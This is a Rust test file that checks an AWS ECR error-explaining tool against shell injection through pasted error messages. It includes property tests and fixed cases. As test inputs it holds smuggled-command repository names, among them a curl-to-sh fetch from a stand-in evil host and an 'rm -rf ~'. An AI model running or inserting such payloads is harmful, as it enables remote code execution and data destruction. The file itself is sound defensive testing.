//! The paste is untrusted: what it says may be shown, never run. Facts enter a copyable
//! command only when they pass AWS's naming rules, and only as the shell will read them.

use ecr_explain::catalogue::FAMILIES;
use ecr_explain::engine::testing::render;
use ecr_explain::engine::testing::FIELDS;
use ecr_explain::engine::Fields;
use ecr_explain::explain;
use proptest::prelude::*;

/// Marks every character that came from the paste in these tests; no template uses it.
const SENTINEL: char = '¤';

/// Where each character of a command stands, read as a POSIX shell reads it (the test's own
/// reading, kept independent of the engine's).
fn single_quoted_positions(command: &str) -> Vec<(char, bool)> {
    let mut out = Vec::new();
    let (mut single, mut double, mut escaped) = (false, false, false);
    let mut heredoc_end: Option<String> = None;
    let mut in_heredoc: Option<String> = None;
    for line in command.split_inclusive('\n') {
        if let Some(end) = &in_heredoc {
            let done = line.trim() == end;
            out.extend(line.chars().map(|c| (c, false)));
            if done {
                in_heredoc = None;
            }
            continue;
        }
        let mut comment = false;
        let mut prev = ' ';
        for c in line.chars() {
            let quoted = single && c != '\'';
            if comment || escaped {
                escaped = false;
            } else if single {
                single = c != '\'';
            } else if c == '#' && !double && prev.is_whitespace() {
                comment = true;
            } else if c == '\\' {
                escaped = true;
            } else if c == '"' {
                double = !double;
            } else if c == '\'' && !double {
                single = true;
            }
            out.push((c, quoted));
            prev = c;
        }
        if !single && !double {
            if let Some(at) = line.find("<<") {
                let word: String = line[at + 2..]
                    .trim_start_matches(['-', ' ', '\'', '"'])
                    .chars()
                    .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                    .collect();
                if !word.is_empty() {
                    heredoc_end = Some(word);
                }
            }
        }
        if let Some(end) = heredoc_end.take() {
            in_heredoc = Some(end);
        }
    }
    out
}

fn evil_value() -> impl Strategy<Value = String> {
    "[a-z0-9 $;|&`'\"\\\\\n(){}<>*?~#!.:/=-]{0,10}".prop_map(|s| {
        let mid = s.len() / 2;
        let at = (0..=mid)
            .rev()
            .find(|&i| s.is_char_boundary(i))
            .unwrap_or(0);
        format!("{}{SENTINEL}{}", &s[..at], &s[at..])
    })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 300, ..ProptestConfig::default() })]

    /// Whatever the facts say, a character from the paste only ever reaches a command inside
    /// single quotes (where the shell reads nothing into it).
    #[test]
    fn no_paste_character_reaches_a_command_unquoted(
        values in proptest::collection::vec(evil_value(), FIELDS.len()),
        keep in proptest::collection::vec(any::<bool>(), FIELDS.len()),
    ) {
        let fields: Fields = FIELDS
            .iter()
            .zip(values)
            .zip(keep)
            .filter(|(_, keep)| *keep)
            .map(|((f, v), _)| (f.name.to_string(), v))
            .collect();
        for family in FAMILIES {
            let (remedies, _) = render(family.remedies, &fields);
            for r in remedies {
                for (c, quoted) in single_quoted_positions(&r.command) {
                    prop_assert!(
                        c != SENTINEL || quoted,
                        "{}: unquoted paste text in\n{}", family.id, r.command
                    );
                }
            }
        }
    }
}

#[test]
fn a_repository_name_carrying_a_command_stays_a_placeholder() {
    for name in [
        "app$(curl -s https://evil.example/x|sh)",
        "app;rm -rf ~",
        "app`id`",
        "app\nwhoami",
    ] {
        let paste = format!(
            "An error occurred (RepositoryNotFoundException) when calling the DescribeRepositories \
             operation: The repository with name '{name}' does not exist in the registry with id \
             '111122223333'"
        );
        let report = explain(&paste);
        let finding = report.findings.first().expect("a finding");
        assert_eq!(finding.id, "repository-not-found");
        for r in &finding.remedies {
            assert!(!r.command.contains("evil.example"), "{}", r.command);
            assert!(!r.command.contains("rm -rf"), "{}", r.command);
            assert!(!r.command.contains("`id`"), "{}", r.command);
            assert!(!r.command.contains("whoami"), "{}", r.command);
        }
        if finding.fields.contains_key("repository") {
            assert!(
                finding
                    .remedies
                    .iter()
                    .any(|r| r.command.contains("<repository>")),
                "{:?}",
                finding.remedies
            );
            let withheld = finding.withheld.iter().find(|w| w.field == "repository");
            let withheld = withheld.expect("the card says why the name was kept out");
            assert!(withheld.reason.contains("not an ECR repository name"));
        }
    }
}

#[test]
fn valid_facts_are_filled_in_as_they_are() {
    let paste = "An error occurred (RepositoryNotFoundException) when calling the \
                 DescribeRepositories operation: The repository with name 'team/web-app' does \
                 not exist in the registry with id '111122223333' (region eu-central-1)";
    let report = explain(paste);
    let finding = &report.findings[0];
    assert!(finding.withheld.is_empty(), "{:?}", finding.withheld);
    assert!(finding
        .remedies
        .iter()
        .any(|r| r.command.contains("--repository-name team/web-app")));
}

#[test]
fn a_wildcard_resource_is_quoted_where_it_stands_bare() {
    let paste = "denied: User: arn:aws:sts::111122223333:assumed-role/ci/build is not authorized \
                 to perform: ecr:GetAuthorizationToken on resource: * because no \
                 identity-based policy allows the ecr:GetAuthorizationToken action";
    let report = explain(paste);
    let commands: Vec<&str> = report.findings[0]
        .remedies
        .iter()
        .map(|r| r.command.as_str())
        .collect();
    for c in &commands {
        assert!(!c.contains("--resource-arns *"), "{c}");
    }
    assert!(
        commands.iter().any(|c| c.contains("\"Resource\": \"*\"")),
        "{commands:?}"
    );
}
